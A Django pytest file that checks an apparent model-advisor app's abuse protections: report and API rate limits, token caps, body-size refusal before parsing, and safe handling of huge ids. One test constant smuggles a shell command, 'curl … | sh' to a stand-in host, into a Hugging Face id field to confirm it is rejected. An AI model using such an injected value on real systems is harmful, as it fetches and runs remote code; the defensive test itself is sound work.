"""Every costly action limited, driven through the interface an attacker used: submits through the
page and creates through the API count against the report limits; the API's budget is the
person's, not the token's, and tokens per person are capped; request bodies are refused by their
length before anything reads them (Django's pages, the API and the WSGI application gunicorn
serves); a preset's Hugging Face id that is not a repository id never reaches a pilot command;
limits per client address never refuse a correct password or a valid token; and an id past 64
bits is a 404, never a 500, on every page and API route."""

from __future__ import annotations

import copy
import importlib
import io
import json
import re
from typing import Any

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from accounts.models import ApiToken, Membership, Role
from advisor.engine.catalog import load_catalog
from advisor.models import Assessment, Report
from advisor.reference.models import Catalog, CatalogPreset
from advisor.reference.services.catalog import catalog_export
from advisor.starters import STARTERS
from tests.factories import (
    PASSWORD,
    AssessmentFactory,
    MembershipFactory,
    ReportFactory,
    UserFactory,
    api_token_for,
    operator_member,
)

pytestmark = pytest.mark.django_db

ANSWERS = STARTERS[0].answers
API = "/api/v1/assessments"


def _signed_in(membership: Membership, language: str = "en") -> Client:
    client = Client(headers={"Accept-Language": language})
    client.force_login(membership.user)
    return client


def _draft(membership: Membership) -> Assessment:
    return Assessment.objects.create(
        organization=membership.organization,
        created_by=membership.user,
        title="Loop",
        answers=copy.deepcopy(ANSWERS),
    )


def _submit(client: Client, obj: Assessment) -> Any:
    obj.refresh_from_db()
    return client.post(reverse("advisor:submit", kwargs={"pk": obj.pk}), {"version": obj.version})


def _api(client: Client, key: str, body: Any = None, language: str = "en") -> Any:
    data = json.dumps(body or {"title": "Scripted", "answers": ANSWERS})
    return client.post(
        API,
        data,
        content_type="application/json",
        headers={"Authorization": f"Bearer {key}", "Accept-Language": language},
    )


# --- Submits and creates count against the report limits -------------------------------------


def test_reopen_and_submit_cycles_count_against_the_persons_report_limit(settings: Any) -> None:
    settings.REPORT_REQUESTS_PER_USER = 5
    settings.REPORT_REQUESTS_PER_ORGANIZATION = 100
    member = MembershipFactory()
    client = _signed_in(member)
    obj = _draft(member)
    statuses = []
    for _ in range(8):
        response = _submit(client, obj)
        statuses.append((response.status_code, response.get("Retry-After")))
        # A worker finishes each report (a pending one of the same answers would be reused).
        Report.objects.update(status=Report.Status.DONE)
        client.post(reverse("advisor:reopen", kwargs={"pk": obj.pk}))
    assert [s for s, _ in statuses] == [302] * 8
    refused = [r for _, r in statuses if r is not None]
    assert len(refused) == 3 and all(0 < int(r) <= 60 for r in refused)
    assert Report.objects.filter(assessment=obj).count() == 5
    # The refusal is said on the review page, and the draft stays a draft.
    obj.refresh_from_db()
    assert obj.is_draft
    page = client.get(reverse("advisor:step", kwargs={"pk": obj.pk, "slug": "review"}))
    assert "Too many report requests" in page.content.decode()


def test_submits_count_against_the_organisations_report_limit_in_chinese(settings: Any) -> None:
    settings.REPORT_REQUESTS_PER_USER = 100
    settings.REPORT_REQUESTS_PER_ORGANIZATION = 3
    first = MembershipFactory()
    second = MembershipFactory(organization=first.organization)
    clients = [_signed_in(first, "zh-hant"), _signed_in(second, "zh-hant")]
    drafts = [_draft(first), _draft(first), _draft(second), _draft(second)]
    for client, obj in zip([clients[0], clients[0], clients[1], clients[1]], drafts, strict=True):
        _submit(client, obj)
        Report.objects.update(status=Report.Status.DONE)
    assert Report.objects.count() == 3
    assert drafts[3].reports.count() == 0
    page = clients[1].get(reverse("advisor:step", kwargs={"pk": drafts[3].pk, "slug": "review"}))
    assert "報告請求過多" in page.content.decode()


def test_api_creates_with_one_token_count_against_the_report_limit(
    client: Client, settings: Any
) -> None:
    settings.REPORT_REQUESTS_PER_USER = 5
    settings.REPORT_REQUESTS_PER_ORGANIZATION = 100
    member = MembershipFactory()
    key = api_token_for(member.user)
    statuses = [_api(client, key).status_code for _ in range(8)]
    assert statuses == [201] * 5 + [429] * 3
    refused = _api(client, key)
    assert 0 < int(refused["Retry-After"]) <= 60
    assert "Too many report requests" in refused.json()["detail"]
    # Nothing of a refused create is kept: no assessment, no report, no PDF to render.
    assert Assessment.objects.count() == 5
    assert Report.objects.count() == 5
    assert set(Report.objects.values_list("requested_by", flat=True)) == {member.user.pk}
    # A draft runs no engine and makes no report: it is not counted.
    draft = _api(client, key, {"title": "Draft", "answers": {}, "draft": True})
    assert draft.status_code == 201


# --- The API's budget is the person's; tokens per person are capped ---------------------------


def test_a_second_token_buys_no_more_api_requests(client: Client, settings: Any) -> None:
    settings.API_RATE_LIMIT_WRITES = 2
    settings.API_RATE_LIMIT_READS = 100
    member = MembershipFactory()
    first, second = api_token_for(member.user), api_token_for(member.user, name="second")
    bad = {"title": "bad"}  # refused writes count, and cost no report
    assert [_api(client, first, bad).status_code for _ in range(2)] == [400, 400]
    refused = _api(client, second, bad)
    assert refused.status_code == 429
    assert "Too many requests with your API tokens" in refused.json()["detail"]
    # Another person's budget is their own.
    assert _api(client, api_token_for(MembershipFactory().user), bad).status_code == 400


def test_tokens_per_person_are_capped_with_a_message_in_both_languages(settings: Any) -> None:
    settings.API_TOKENS_PER_USER = 3
    member = MembershipFactory()
    client = _signed_in(member)
    url = reverse("accounts:api_tokens")
    for i in range(3):
        assert client.post(url, {"name": f"key {i}"}).status_code == 302
    refused = client.post(url, {"name": "one too many"})
    assert refused.status_code == 400
    assert "You already have 3 working API keys" in refused.content.decode()
    zh = _signed_in(member, "zh-hant").post(url, {"name": "one too many"})
    assert "您已有 3 把可用的 API 金鑰" in zh.content.decode()
    assert ApiToken.objects.filter(user=member.user).count() == 3
    # A revoked key frees its place.
    token = ApiToken.objects.filter(user=member.user).first()
    assert token is not None
    client.post(reverse("accounts:api_token_revoke", kwargs={"pk": token.pk}))
    assert client.post(url, {"name": "replacement"}).status_code == 302


# --- Bodies are refused by their length before anything reads them ---------------------------


@pytest.fixture
def parsed(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Counts the bodies Django's multipart parser starts on (it spools files to disk)."""
    from django.http import multipartparser

    calls: list[int] = []
    original = multipartparser.MultiPartParser.parse

    def parse(self: Any) -> Any:
        calls.append(1)
        return original(self)

    monkeypatch.setattr(multipartparser.MultiPartParser, "parse", parse)
    return calls


def _file(size: int) -> io.BytesIO:
    upload = io.BytesIO(b"x" * size)
    upload.name = "run.json"
    return upload


def test_an_anonymous_body_past_64_kib_is_refused_at_the_login_page(parsed: list[int]) -> None:
    response = Client().post(
        reverse("accounts:login"), {"username": "a@example.com", "file": _file(100 * 1024)}
    )
    assert response.status_code == 413
    assert parsed == []
    # An ordinary login form is a few hundred bytes.
    ordinary = Client().post(reverse("accounts:login"), {"username": "a", "password": "b"})
    assert ordinary.status_code == 200


def test_a_signed_in_upload_past_the_cap_is_refused_before_it_is_spooled(
    parsed: list[int], settings: Any
) -> None:
    member = MembershipFactory()
    obj = AssessmentFactory(membership=member, submitted=True)
    report = ReportFactory(assessment=obj)
    url = reverse("advisor:report_measure", kwargs={"pk": obj.pk, "number": report.number})
    response = _signed_in(member).post(url, {"file": _file(settings.REQUEST_BODY_MAX_BYTES + 1)})
    assert response.status_code == 413
    assert "more than the 6,291,456 bytes this page takes" in response.content.decode()
    assert parsed == []


def test_a_chunked_body_is_refused_as_it_has_no_length_to_check() -> None:
    response = Client().post(
        reverse("accounts:login"),
        {"username": "a", "password": "b"},
        headers={"Transfer-Encoding": "chunked"},
    )
    assert response.status_code == 411


def test_the_wsgi_application_gunicorn_serves_refuses_before_reading(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Production's shape (docker-compose.yml): gunicorn, which caps no body, in front of
    advisor.wsgi.application. A gigabyte's Content-Length is answered without a byte read."""
    monkeypatch.setenv("WARM_UP", "false")
    application = importlib.reload(importlib.import_module("advisor.wsgi")).application

    class Unreadable(io.RawIOBase):
        def read(self, *args: Any) -> bytes:
            raise AssertionError("the body was read")

    answers: list[str] = []
    for extra in ({"CONTENT_LENGTH": str(10**9)}, {"HTTP_TRANSFER_ENCODING": "chunked"}):
        environ = {
            "REQUEST_METHOD": "POST",
            "PATH_INFO": "/accounts/login/",
            "SERVER_NAME": "testserver",
            "SERVER_PORT": "80",
            "wsgi.url_scheme": "http",
            "wsgi.input": Unreadable(),
            "CONTENT_TYPE": "multipart/form-data; boundary=x",
            **extra,
        }
        application(environ, lambda status, headers, *_: answers.append(status))
    assert answers == ["413 Content Too Large", "411 Length Required"]


# --- Preset Hugging Face ids ------------------------------------------------------------------

HOSTILE = "meta-llama/x; curl https://example.invalid/p | sh"


def test_an_imported_preset_whose_hugging_face_id_is_a_command_is_refused(
    client: Client,
) -> None:
    client.force_login(operator_member(Role.ADMIN))
    active = Catalog.objects.get(status=Catalog.Status.PUBLISHED)
    doc = json.loads(catalog_export(catalog=active))
    preset = doc["model_presets"][0]
    preset["hf_id"] = HOSTILE
    response = client.post(reverse("admin:reference_catalog_import"), {"text": json.dumps(doc)})
    assert response.status_code == 200
    assert f"Model preset {preset['id']}: the Hugging Face id" in response.content.decode()
    assert Catalog.objects.count() == 1
    # A repository id is taken.
    preset["hf_id"] = "meta-llama/Llama-3.2-1B"
    client.post(reverse("admin:reference_catalog_import"), {"text": json.dumps(doc)})
    assert Catalog.objects.count() == 2


def test_a_stored_preset_id_that_is_not_a_repository_id_never_reaches_the_engine() -> None:
    active = Catalog.objects.get(status=Catalog.Status.PUBLISHED)
    row = CatalogPreset.objects.filter(catalog=active).first()
    assert row is not None
    CatalogPreset.objects.filter(pk=row.pk).update(extra={**row.extra, "hf_id": HOSTILE})
    presets = load_catalog(active.to_document()).presets
    assert presets[row.key].hf_id != HOSTILE
    assert all(";" not in (p.hf_id or "") and " " not in (p.hf_id or "") for p in presets.values())


# --- Limits per client address never refuse a correct password or a valid token -----------------


def test_a_correct_password_signs_in_from_an_address_past_its_failure_limit(settings: Any) -> None:
    settings.PROXY_COUNT = 1
    UserFactory(email="grace@example.com")
    office = Client(REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR="203.0.113.9")
    login = reverse("accounts:login")
    statuses = [
        office.post(login, {"username": f"person{i}@example.com", "password": "x"}).status_code
        for i in range(21)
    ]
    assert statuses == [200] * 20 + [429]
    # The same address: a wrong password is refused, a correct one signs in.
    assert office.post(login, {"username": "grace@example.com", "password": "x"}).status_code == 429
    signed_in = office.post(login, {"username": "grace@example.com", "password": PASSWORD})
    assert signed_in.status_code == 302


def test_a_valid_token_works_from_an_address_past_its_invalid_token_limit(
    client: Client, settings: Any
) -> None:
    settings.API_INVALID_TOKENS_PER_ADDRESS = 3
    key = api_token_for(MembershipFactory().user)
    wrong = {"Authorization": "Bearer nope"}
    statuses = [client.get(API, headers=wrong).status_code for _ in range(4)]
    assert statuses == [401, 401, 401, 429]
    assert client.get(API, headers={"Authorization": f"Bearer {key}"}).status_code == 200
    assert client.get(API, headers=wrong).status_code == 429


# --- Ids past 64 bits ------------------------------------------------------------------------

HUGE = str(2**64 + 1)


def _patterns(resolver: URLResolver, prefix: str = "") -> list[str]:
    found = []
    for entry in resolver.url_patterns:
        route = prefix + str(entry.pattern).lstrip("^").removesuffix("$").removesuffix(r"\Z")
        if isinstance(entry, URLResolver):
            found += _patterns(entry, route)
        elif isinstance(entry, URLPattern):
            found.append(route)
    return found


def _with_huge_ids(route: str) -> str | None:
    """The route with every numeric parameter a huge id; None for a route without one."""
    url, count = re.subn(r"<int:\w+>|<path:object_id>|<(str:)?\w*_id>", HUGE, route)
    url, more = re.subn(r"\(\?P<(object_id|pk|id)>[^)]*\)", HUGE, url)
    url, ints = re.subn(r"\{(\w*_id|pk)\}", HUGE, url)  # ninja's own routes
    if count + more + ints == 0:
        return None
    url = re.sub(r"<(\w+:)?\w+>|\(\?P<\w+>[^)]*\)|\([^)]*\)", "x", url)
    return "/" + url.replace("\\", "")


def test_every_route_answers_an_id_past_64_bits_without_a_server_error() -> None:
    admin = operator_member(Role.ADMIN)
    admin.is_superuser = True
    admin.save()
    client = Client(raise_request_exception=False)
    client.force_login(admin)
    key = api_token_for(admin)
    urls = [u for u in map(_with_huge_ids, _patterns(get_resolver())) if u]
    assert any(u.startswith("/api/") for u in urls) and any("/admin/" in u for u in urls)
    assert len(urls) > 40
    errors = []
    for url in urls:
        for method in ("get", "post"):
            response = getattr(client, method)(
                url, headers={"Authorization": f"Bearer {key}"} if url.startswith("/api/") else {}
            )
            if response.status_code >= 500:
                errors.append((method, url, response.status_code))
    assert errors == []
